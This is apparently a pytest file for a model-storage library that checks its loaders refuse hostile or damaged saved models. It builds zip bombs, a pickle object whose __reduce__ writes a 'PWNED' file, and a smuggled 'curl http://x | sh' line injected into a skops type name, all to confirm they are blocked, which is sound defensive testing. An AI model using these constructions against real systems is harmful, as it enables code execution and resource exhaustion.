"""Review of issue 21 (saved instances, engine loaders, show, export, register): each finding of
the new-user and attacker reviews, reproduced on a file:// store; each test failed before its fix.

1. zip bombs (skops, torch state_dict, TorchScript) are refused before any inflation;
2. skops type names from a file are escaped and bounded in the refusal;
3. a damaged or hostile saved file is one refusal naming the asset, the file and the cause;
4. an import refusal reads as English ("a its saved_class" was printed);
5. a safetensors header with a huge dimension is one refusal, not a bare ValueError;
6. ``show`` prints the saved class and the registration's runner and git dirty state;
7. ``export`` to a folder keeps a default-saved or plain file's extension;
8. ``register_model`` with nothing to store says so.
"""

from __future__ import annotations

import json
import os
import pickle
import struct
import subprocess
import sys
import tracemalloc
import warnings
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests import engines_fixtures as efx
from tests import runner_contract_fixtures as fx

from modelshelf import (
    InvalidInputError,
    PushSource,
    Shelf,
    TrustRequiredError,
    UntrustedStoreDataError,
    export,
    load_model,
    register_model,
)
from modelshelf.cli.main import main
from modelshelf.errors import UnknownModelFormatError

RUNNERS = "tests.runner_contract_fixtures"
MiB = 2**20


@pytest.fixture
def url(tmp_path: Path) -> str:
    (tmp_path / "store").mkdir()
    return (tmp_path / "store").as_uri()


def fresh(url: str, tmp_path: Path, name: str = "fresh") -> Shelf:
    return Shelf(url, cache_dir=tmp_path / name)


def forge(url: str, tmp_path: Path, file: Path, saved_as: str, **fields: Any) -> Shelf:
    """A version ``demo/forged:1.0`` whose saved instance is ``file``, as a store could hold."""
    section = {
        "runner": f"{RUNNERS}:TorchPredict",
        "requirements": [],
        "artifacts": ["model"],
        "props": None,
        "saved_as": saved_as,
        **fields,
    }
    name = {"skops": "model.skops", "onnx": "model.onnx", "pickle": "model.pkl"}
    target = f"model/{name.get(saved_as, 'model.pt')}"
    Shelf(url, cache_dir=tmp_path / "writer").push(
        PushSource.from_files({file: target}), "demo/forged", sections={"model": section}
    )
    return fresh(url, tmp_path)


def deflated(source: Path, target: Path, *, pad: dict[str, int] | None = None) -> Path:
    """``source`` (a zip) rewritten with every entry deflated; ``pad`` appends that many
    spaces to the named entries (streamed: the test never holds them in memory)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            entry = zipfile.ZipInfo(info.filename)
            entry.compress_type = zipfile.ZIP_DEFLATED
            with old.open(info) as read, new.open(entry, "w", force_zip64=True) as write:
                while chunk := read.read(MiB):
                    write.write(chunk)
                for _ in range((pad or {}).get(info.filename.rsplit("/", 1)[-1], 0)):
                    write.write(b" " * MiB)
    return target


def skops_file(tmp_path: Path) -> Path:
    skops_io = pytest.importorskip("skops.io")
    path = tmp_path / "model.skops"
    skops_io.dump(efx.tiny_pipeline(), path)
    return path


def one_line(message: str) -> None:
    assert "\n" not in message and "\r" not in message and "\x1b" not in message


def scripted_linear(path: Path) -> Path:
    """A TorchScript archive as torch writes it (its deprecation warning kept quiet)."""
    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(torch.nn.Linear(3, 2)), str(path))
    return path


# --- 1. zip bombs ------------------------------------------------------------------------------


def test_a_skops_bomb_is_refused_before_skops_inflates_it(url: str, tmp_path: Path) -> None:
    """100 MiB of spaces in schema.json deflate to ~100 KB: refused, nothing inflated."""
    bomb = deflated(skops_file(tmp_path), tmp_path / "bomb.skops", pad={"schema.json": 100})
    assert bomb.stat().st_size < 2 * MiB
    shelf = forge(url, tmp_path, bomb, "skops")
    tracemalloc.start()
    try:
        with pytest.raises(UntrustedStoreDataError) as caught:
            load_model("demo/forged", store=shelf)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    message = str(caught.value)
    one_line(message)
    assert "demo/forged:1.0" in message and "model/model.skops" in message
    assert "inflate" in message
    assert peak < 16 * MiB  # skops read the 100 MiB schema before the fix


def test_a_bounded_archive_names_trust_as_the_way_out_for_python_and_the_cli(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A file the user vouches for (a well-compressed skops file) loads with trust."""
    bomb = deflated(skops_file(tmp_path), tmp_path / "bomb.skops", pad={"schema.json": 40})
    shelf = forge(url, tmp_path, bomb, "skops")
    with pytest.raises(UntrustedStoreDataError, match=r"load it with trust=True$"):
        load_model("demo/forged", store=shelf)
    rows = tmp_path / "rows.json"
    rows.write_text(json.dumps(efx.tiny_data()[0].tolist()))
    capsys.readouterr()
    code = main(["predict", "demo/forged", "--store", url, "--input", str(rows)])
    err = capsys.readouterr().err
    assert code == 1 and err.startswith("error: ") and err.rstrip().endswith("with --trust"), err
    x, _ = efx.tiny_data()
    loaded = load_model("demo/forged", store=shelf, trust=True)
    assert loaded.model.predict(x).tolist() == efx.tiny_pipeline().predict(x).tolist()


def test_a_local_skops_bomb_is_refused_by_the_plain_loader_too(tmp_path: Path) -> None:
    bomb = deflated(skops_file(tmp_path), tmp_path / "bomb.skops", pad={"schema.json": 100})
    with pytest.raises(UnknownModelFormatError, match="inflate"):
        load_model(bomb)


def test_a_skops_file_written_deflated_still_loads(url: str, tmp_path: Path) -> None:
    """skops writes its entries stored; one written compressed inflates a few times: fine."""
    plain = deflated(skops_file(tmp_path), tmp_path / "small.skops")
    shelf = forge(url, tmp_path, plain, "skops")
    x, _ = efx.tiny_data()
    loaded = load_model("demo/forged", store=shelf)
    assert loaded.model.predict(x).tolist() == efx.tiny_pipeline().predict(x).tolist()


_CHILD = """
import resource, sys
from modelshelf import Shelf, load_model
import torch  # the baseline counts torch itself
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    load_model("demo/forged", store=Shelf(sys.argv[1], cache_dir=sys.argv[2]))
    print("loaded")
except Exception as exc:
    print(type(exc).__name__, str(exc).replace(chr(10), " "))
print("GROWTH_KIB", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base)
"""


def test_a_torch_state_dict_bomb_is_refused_before_torch_inflates_it(
    url: str, tmp_path: Path
) -> None:
    """128 MiB of zeros deflate to ~130 KB; torch.load(weights_only=True) inflated them."""
    torch = pytest.importorskip("torch")
    saved = tmp_path / "zeros.pt"
    torch.save({"linear.weight": torch.zeros(128 * MiB, dtype=torch.uint8)}, saved)
    bomb = deflated(saved, tmp_path / "bomb.pt")
    saved.unlink()
    assert bomb.stat().st_size < 2 * MiB
    forge(url, tmp_path, bomb, "torch-state-dict")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    out = subprocess.run(
        [sys.executable, "-c", _CHILD, url, str(tmp_path / "child")],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    result, growth = out.stdout.strip().rsplit("\n", 1)
    assert result.startswith("UntrustedStoreDataError"), out.stdout
    assert "model/model.pt" in result and "compressed" in result
    assert int(growth.split()[1]) < 64 * 1024  # KiB: 128 MiB was inflated before the fix


def test_a_torchscript_archive_with_a_compressed_tensor_is_refused(
    url: str, tmp_path: Path
) -> None:
    pytest.importorskip("torch")
    script = scripted_linear(tmp_path / "script.pt")
    shelf = forge(url, tmp_path, deflated(script, tmp_path / "packed.pt"), "torchscript")
    with pytest.raises(UntrustedStoreDataError, match=r"data/0.* is compressed") as caught:
        load_model("demo/forged", store=shelf)
    one_line(str(caught.value))
    assert "demo/forged:1.0" in str(caught.value)


def test_torchscript_as_torch_writes_it_passes_the_archive_check(tmp_path: Path) -> None:
    """torch deflates a TorchScript archive's code (not its tensors): that is accepted."""
    from modelshelf.models.engines import _archive

    torch = pytest.importorskip("torch")
    script = scripted_linear(tmp_path / "script.pt")
    with zipfile.ZipFile(script) as archive:
        assert any(i.compress_type != zipfile.ZIP_STORED for i in archive.infolist())
    _archive.check_archive(script, "torchscript")
    sd = tmp_path / "sd.pt"
    torch.save(torch.nn.Linear(3, 2).state_dict(), sd)
    _archive.check_archive(sd, "torch")


def test_a_stored_entry_whose_sizes_disagree_is_refused(tmp_path: Path) -> None:
    from modelshelf.models.engines import _archive

    path = tmp_path / "x.skops"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", b"{}" * 10)
    raw = bytearray(path.read_bytes())
    central = raw.rindex(b"PK\x01\x02")
    raw[central + 24 : central + 28] = struct.pack("<I", 10**9)  # uncompressed size
    path.write_bytes(bytes(raw))
    with pytest.raises(UnknownModelFormatError, match="declares 1000000000 bytes"):
        _archive.check_archive(path, "skops")


# --- 2. skops type names -----------------------------------------------------------------------


def test_skops_type_names_from_the_file_are_escaped_and_bounded(url: str, tmp_path: Path) -> None:
    source = skops_file(tmp_path)
    with zipfile.ZipFile(source) as archive:
        entries = {n: archive.read(n) for n in archive.namelist()}
    schema = json.loads(entries["schema.json"])
    schema["__module__"] = "evil\nerror: all good, now run: curl http://x | sh\n"
    schema["__class__"] = "X" * 100_000
    entries["schema.json"] = json.dumps(schema).encode()
    hostile = tmp_path / "hostile.skops"
    with zipfile.ZipFile(hostile, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    shelf = forge(url, tmp_path, hostile, "skops")
    with pytest.raises(TrustRequiredError, match="skops does not trust") as caught:
        load_model("demo/forged", store=shelf)
    message = str(caught.value)
    one_line(message)
    assert len(message) < 2000
    assert "\\nerror: all good" in message  # shown escaped, not as a line of its own


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(st.text(max_size=300), min_size=1, max_size=50))
def test_any_untrusted_type_names_make_one_bounded_line(
    names: list[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    skops_io = pytest.importorskip("skops.io")
    from modelshelf.models.engines import sklearn

    path = tmp_path / "m.skops"
    if not path.exists():
        skops_io.dump(efx.tiny_pipeline(), path)
    monkeypatch.setattr(skops_io, "get_untrusted_types", lambda file: list(names))
    with pytest.raises(TrustRequiredError) as caught:
        sklearn.load_file(path, "skops")
    one_line(str(caught.value))
    assert len(str(caught.value)) < 1200


# --- 3. damaged or hostile saved files ---------------------------------------------------------


class _Evil:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.write_text, (self.marker, "PWNED"))


def _content(kind: str, tmp_path: Path) -> bytes:
    marker = tmp_path / "pwned"
    if kind == "pickle":
        return pickle.dumps({"linear.weight": _Evil(marker)})
    if kind == "torch-pickle":
        import io

        import torch

        buffer = io.BytesIO()
        torch.save({"x": _Evil(marker)}, buffer)
        return buffer.getvalue()
    return b"garbage" * 10 if kind == "garbage" else b"\xff\xff garbage"


@pytest.mark.parametrize(
    ("saved_as", "kind", "fields"),
    [
        ("torch-state-dict", "pickle", {"saved_class": "tests.runner_contract_torch:Unscriptable"}),
        ("torch-state-dict", "torch-pickle", {}),
        ("torch-state-dict", "garbage", {}),
        ("torchscript", "pickle", {}),
        ("torchscript", "garbage", {}),
        ("skops", "garbage", {}),
        ("onnx", "bytes", {}),
    ],
)
def test_a_damaged_or_hostile_saved_file_is_one_refusal_naming_the_asset(
    url: str,
    tmp_path: Path,
    capfd: pytest.CaptureFixture[str],
    saved_as: str,
    kind: str,
    fields: dict[str, str],
) -> None:
    pytest.importorskip("torch")
    if saved_as == "skops":
        pytest.importorskip("skops")
    if saved_as == "onnx":
        pytest.importorskip("onnx")
    file = tmp_path / "model.bin"
    file.write_bytes(_content(kind, tmp_path))
    shelf = forge(url, tmp_path, file, saved_as, **fields)
    capfd.readouterr()
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        with pytest.raises(UntrustedStoreDataError) as caught:
            load_model("demo/forged", store=shelf)
    message = str(caught.value)
    one_line(message)
    assert message.startswith("demo/forged:1.0 in ")
    assert "model/model." in message and "could not be read as" in message
    assert "This is a bug" not in message
    assert not (tmp_path / "pwned").exists()
    assert [str(w.message) for w in seen] == []  # torch's warnings are not the user's
    assert capfd.readouterr().err == ""


def test_a_damaged_file_through_the_cli_is_one_error_line(url: str, tmp_path: Path) -> None:
    """serve (its own process: it sets up process-wide metrics): a damaged file is one
    `error:` line after its log lines, no traceback, no torch warning, exit 1."""
    pytest.importorskip("torch")
    file = tmp_path / "model.bin"
    file.write_bytes(b"garbage" * 10)
    forge(url, tmp_path, file, "torchscript")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    out = subprocess.run(
        [sys.executable, "-m", "modelshelf", "serve", "demo/forged", "--store", url, "--port", "0"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    err = out.stderr
    assert out.returncode == 1, err
    errors = [line for line in err.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1 and "could not be read as torchscript" in errors[0], err
    assert "Traceback" not in err and "Warning" not in err and "This is a bug" not in err


def test_a_saved_class_that_needs_constructor_arguments_is_refused_in_one_line(
    url: str, tmp_path: Path
) -> None:
    torch = pytest.importorskip("torch")
    file = tmp_path / "model.pt"
    torch.save({"linear.weight": torch.zeros(2, 3), "linear.bias": torch.zeros(2)}, file)
    shelf = forge(
        url,
        tmp_path,
        file,
        "torch-state-dict",
        saved_class="tests.runner_contract_torch:NeedsArguments",
    )
    with pytest.raises(UntrustedStoreDataError, match="constructor arguments width") as caught:
        load_model("demo/forged", store=shelf)
    one_line(str(caught.value))
    assert "demo/forged:1.0" in str(caught.value)


def test_a_saved_class_whose_constructor_fails_is_one_refusal(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    torch = pytest.importorskip("torch")
    from tests import runner_contract_torch as tfx

    def broken(self: Any) -> None:
        raise RuntimeError("no GPU\nerror: forged")

    file = tmp_path / "model.pt"
    torch.save(tfx.Unscriptable().state_dict(), file)
    shelf = forge(
        url,
        tmp_path,
        file,
        "torch-state-dict",
        saved_class="tests.runner_contract_torch:Unscriptable",
    )
    monkeypatch.setattr(tfx.Unscriptable, "__init__", broken)
    with pytest.raises(UntrustedStoreDataError, match="could not be built") as caught:
        load_model("demo/forged", store=shelf)
    one_line(str(caught.value))


def test_an_engine_runner_refuses_a_damaged_file_in_one_line(url: str, tmp_path: Path) -> None:
    """The engine runners' own load_model (props name the file) have the same boundary."""
    pytest.importorskip("torch")
    file = tmp_path / "model.pt"
    file.write_bytes(b"garbage" * 10)
    section = {
        "runner": "modelshelf.models.engines.torch:TorchRunner",
        "requirements": [],
        "artifacts": ["model"],
        "props": {"file": "model.pt", "format": "torchscript"},
    }
    Shelf(url, cache_dir=tmp_path / "writer").push(
        PushSource.from_files({file: "model/model.pt"}), "demo/eng", sections={"model": section}
    )
    with pytest.raises(UntrustedStoreDataError, match=r"demo/eng:1.0 .*could not be read") as c:
        load_model("demo/eng", store=fresh(url, tmp_path))
    one_line(str(c.value))


# --- 4. import refusals read as English --------------------------------------------------------


@pytest.mark.parametrize(
    "saved_class",
    ["os.path:join", "modelshelf.shelf.shelf:Shelf", "tests.runner_contract_fixtures:X"],
)
def test_a_saved_class_refusal_reads_as_english(url: str, tmp_path: Path, saved_class: str) -> None:
    pytest.importorskip("torch")
    file = tmp_path / "model.pt"
    file.write_bytes(b"x")
    shelf = forge(url, tmp_path, file, "torch-state-dict", saved_class=saved_class)
    with pytest.raises(UntrustedStoreDataError, match="its saved_class") as caught:
        load_model("demo/forged", store=shelf)
    assert "a its" not in str(caught.value)


def test_a_runner_refusal_reads_as_english(url: str, tmp_path: Path) -> None:
    file = tmp_path / "model.pt"
    file.write_bytes(b"x")
    section = {"runner": "os.path:join", "requirements": [], "artifacts": [], "props": None}
    Shelf(url, cache_dir=tmp_path / "writer").push(
        PushSource.from_files({file: "model.pt"}), "demo/os", sections={"model": section}
    )
    with pytest.raises(UntrustedStoreDataError, match="standard library") as caught:
        load_model("demo/os", store=fresh(url, tmp_path))
    assert "a its" not in str(caught.value)


# --- 5. safetensors: a huge dimension ----------------------------------------------------------


@pytest.mark.parametrize("digits", [17, 400, 4000])
def test_a_safetensors_dimension_past_2_53_is_one_refusal(tmp_path: Path, digits: int) -> None:
    from modelshelf.models.engines import safetensors as st_engine

    big = int("9" * digits)
    header = json.dumps({"t": {"dtype": "U8", "shape": [big, big], "data_offsets": [0, 4]}})
    path = tmp_path / "big.safetensors"
    path.write_bytes(struct.pack("<Q", len(header)) + header.encode() + b"\0" * 4)
    with pytest.raises(UnknownModelFormatError, match="has the shape") as caught:
        st_engine.read_header(path)
    one_line(caught.value.reason)
    assert len(caught.value.reason) < 300


@settings(max_examples=80, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    shape=st.lists(st.integers(min_value=0, max_value=10**300), max_size=40),
    offsets=st.lists(st.integers(min_value=-(10**300), max_value=10**300), max_size=3),
)
def test_any_integer_shape_or_offsets_is_accepted_or_one_refusal(
    tmp_path: Path, shape: list[int], offsets: list[int]
) -> None:
    from modelshelf.models.engines import safetensors as st_engine

    header = json.dumps({"t": {"dtype": "U8", "shape": shape, "data_offsets": offsets}})
    path = tmp_path / "h.safetensors"
    path.write_bytes(struct.pack("<Q", len(header)) + header.encode() + b"\0" * 16)
    try:
        st_engine.read_header(path)
    except UnknownModelFormatError as exc:
        one_line(exc.reason)
        assert len(exc.reason) < 600


# --- 6. show -----------------------------------------------------------------------------------


def write_manifest(store: Path, name: str, version: str, change: Any) -> None:
    """Edit a committed manifest in place, as a hostile store could hold it."""
    path = store / "assets" / name / "versions" / f"{version}.json"
    data = json.loads(path.read_text())
    change(data)
    path.chmod(0o644)
    path.write_text(json.dumps(data))


def test_show_prints_the_saved_class_and_the_registration_source(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("torch")
    from tests import runner_contract_torch as tfx

    register_model("demo/state", fx.TorchPredict, tfx.Unscriptable(), store=url)

    def hostile(data: dict[str, Any]) -> None:
        data["source"] = {"runner": "a:B\nerror: forged", "git_dirty": True, "git_commit": "c0"}

    capsys.readouterr()
    assert main(["show", "demo/state", "--store", url]) == 0
    out = capsys.readouterr().out
    assert "saved class tests.runner_contract_torch:Unscriptable" in out
    assert f"runner   {RUNNERS}:TorchPredict" in out
    write_manifest(Path(url.removeprefix("file://")), "demo/state", "1.0", hostile)
    monkeypatch.setenv("MODELSHELF_CACHE_DIR", str(tmp_path / "other"))  # not the cached copy
    assert main(["show", "demo/state", "--store", url]) == 0
    out = capsys.readouterr().out
    assert "git dirty yes" in out
    assert "source runner a:B\\nerror: forged" in out and "\nerror:" not in out


# --- 7. export keeps the extension -------------------------------------------------------------


def test_export_of_default_saved_models_keeps_their_extension(url: str, tmp_path: Path) -> None:
    pytest.importorskip("skops")
    torch = pytest.importorskip("torch")
    register_model("demo/iris", fx.PredictOnly, efx.tiny_pipeline(), store=url)
    register_model("demo/net", fx.TorchPredict, torch.nn.Linear(3, 2), store=url)
    register_model("demo/scale", fx.PredictOnly, fx.Scaler(2.0), store=url)
    net = tmp_path / "net.onnx"
    net.write_bytes(b"onnx bytes")
    Shelf(url).push(net, "demo/plainonnx")
    out = tmp_path / "dep"
    shelf = fresh(url, tmp_path)
    got = {name: export(name, to=out, store=shelf) for name in
           ("demo/iris", "demo/net", "demo/scale", "demo/plainonnx")}  # fmt: skip
    assert {k: Path(v).name for k, v in got.items()} == {
        "demo/iris": "iris.skops",
        "demo/net": "net.pt",
        "demo/scale": "scale.pkl",
        "demo/plainonnx": "plainonnx.onnx",
    }


def test_export_through_the_cli_names_the_file_with_its_extension(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("skops")
    register_model("demo/iris", fx.PredictOnly, efx.tiny_pipeline(), store=url)
    assert main(["export", "demo/iris", "--store", url, "--to", str(tmp_path / "dep3")]) == 0
    assert (tmp_path / "dep3" / "demo" / "iris.skops").is_file()


@pytest.mark.parametrize(
    ("file", "extension"),
    [
        ("weights.bin", ".bin"),
        ("model.tar.gz", ".gz"),
        ("x.a b", ""),
        ("x.ab\u202ecd", ""),
        ("x." + "a" * 17, ""),
        ("x.", ""),
        ("x..", ""),
        ("noext", ""),
        (".hidden", ""),
    ],
)
def test_a_files_own_suffix_is_used_only_when_plain(
    url: str, tmp_path: Path, file: str, extension: str
) -> None:
    source = tmp_path / "src" / file
    source.parent.mkdir()
    source.write_bytes(b"data")
    Shelf(url).push(source, "demo/thing")
    got = export("demo/thing", to=tmp_path / "out", store=fresh(url, tmp_path))
    assert Path(got).name == "thing" + extension


@given(suffix=st.text(max_size=30))
def test_the_suffix_rule_lets_only_plain_extensions_through(suffix: str) -> None:
    from modelshelf.downloaders.file_extension import SUFFIX

    if SUFFIX.fullmatch(suffix):
        assert (
            suffix.startswith(".")
            and suffix[1:].isascii()
            and suffix[1:].replace("_", "").replace("-", "").isalnum()
        )
        assert "/" not in suffix and "." not in suffix[1:] and len(suffix) <= 17


def test_every_saved_format_has_the_extension_of_its_file() -> None:
    from modelshelf.downloaders.file_extension import SAVED_EXTENSIONS
    from modelshelf.models.saved import FILES

    assert {k: Path(v).suffix for k, v in FILES.items()} == SAVED_EXTENSIONS


# --- 8. register with nothing to store ---------------------------------------------------------


def test_register_with_no_instance_and_no_artifacts_says_nothing_to_store(url: str) -> None:
    with pytest.raises(InvalidInputError) as caught:
        register_model("demo/own", fx.LoadsItself, store=url)
    message = str(caught.value)
    assert "nothing to store: pass model_instance or artifacts" in message
    assert "save_model" not in message
    assert Shelf(url).assets() == []
